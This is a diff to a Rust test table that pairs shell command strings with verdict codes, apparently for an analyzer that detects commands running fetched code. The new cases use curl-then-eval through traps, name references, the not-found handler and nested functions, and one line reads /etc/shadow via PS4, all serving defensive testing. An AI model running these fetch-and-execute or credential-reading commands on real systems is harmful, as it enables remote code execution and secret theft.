@@ -486,8 +486,34 @@ const CASES: &[(&str, &str)] = &[
     ("cd \"$(cat d)\"; curl -s https://x/i > \"$(cat n)\"; bash i.sh", "0054"),
     ("curl -so i.sh https://x/i; trap \"bash ./other.sh\" EXIT", "0047"),
     ("f=out.html; curl -s https://x/i > \"$f\"; bash run.sh", "0047"),
-    // A command whose name is not known, given fetched text, may be a function that runs it.
-    ("cmd=$(cat f); e(){ eval \"$1\"; }; $cmd \"$(curl -s https://x/v)\"", "0055"),
+    // The same through what a body walked on its own reads: a value it sets on some paths
+    // only, a reference, the parameters of the function that set a trap, the handler of
+    // commands not found, an earlier definition a trap calls, `local`/`export` of fetched
+    // text, and a file saved in one body and run by another.
+    ("x=$(curl -s https://x/v); e(){ if [ \"$1\" ]; then x=safe; fi; eval \"$x\"; }; trap e EXIT", "0054"),
+    ("declare -n r=x; x=$(curl -s https://x/v); trap 'eval \"$r\"' EXIT", "0054"),
+    ("f(){ trap 'eval \"$1\"' RETURN; }; f \"$(curl -s https://x/v)\"", "0054"),
+    ("command_not_found_handle(){ eval \"$2\"; }; nosuchcmd \"$(curl -s https://x/v)\"", "0054"),
+    ("e(){ eval \"$1\"; }; x=$(curl -s https://x/v); trap 'e \"$x\"' DEBUG; :; e(){ :; }", "0054"),
+    ("x=$(curl -s https://x/v); e(){ local y=\"$x\"; eval \"$y\"; }; trap e EXIT", "0054"),
+    ("export x=$(curl -s https://x/v); eval \"$x\"", "0054"),
+    ("f(){ local x=$(curl -s https://x/v); eval \"$x\"; }; f", "0054"),
+    (
+        "f(){ bash ./i.sh; }; F4(){ f;}; F3(){ F4;}; F2(){ F3;}; F1(){ F2;}; trap 'curl -so i.sh https://x/v; F1' EXIT",
+        "0054",
+    ),
+    // What is not fetched stays so: a parameter the call did not fetch, a file of another
+    // name saved where the directory is not known.
+    (
+        "run(){ echo \"+ $*\"; \"$@\"; }; d(){ v=$(curl -s https://x/v); run echo \"v $v\"; }; c(){ d;}; b(){ c;}; a(){ b;}; a",
+        "0045",
+    ),
+    ("out=$(mktemp -d); curl -s https://x/d.json > \"$out/d.json\"; ./build.sh", "0045"),
+    ("cd \"$(mktemp -d)\"; curl -sO https://x/data.json; cd -; ./build.sh", "0045"),
+    ("f(){ local x=$(cat f); eval \"$x\"; }; f", "0005"),
+    // A command whose name is not known is code the analysis cannot see, given fetched text or
+    // not (it could as well fetch and run code itself).
+    ("cmd=$(cat f); e(){ eval \"$1\"; }; $cmd \"$(curl -s https://x/v)\"", "0045"),
     ("PS4='$(cat /etc/shadow)' bash -xc true", "4004"),
     // --- privilege ------------------------------------------------------------------------------
     ("sudo ls", "1004"),
